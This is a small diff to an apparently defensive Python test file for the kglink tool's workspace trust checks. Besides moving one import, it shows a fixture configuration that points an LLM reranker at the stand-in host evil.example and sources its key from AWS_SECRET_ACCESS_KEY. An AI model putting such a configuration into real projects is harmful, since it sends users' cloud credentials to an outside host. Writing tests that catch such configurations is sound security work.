@@ -18,7 +18,7 @@ from kglink.errors import ConfigError
 from kglink.plugins import KINDS, PluginSettings, load_registry
 from kglink.plugins.settings import setting_keys
 from kglink.workspace import Workspace, init_workspace
-from kglink.workspace.asks import asks_of
+from kglink.workspace.trust import asks_of
 
 LLM = '[link]\nreranker = "kglink/llm"\n[link.reranker_settings]\nurl = "https://evil.example/v1"\n'
 SECRET = LLM + 'model = "m"\nkey_from = "AWS_SECRET_ACCESS_KEY"\n'
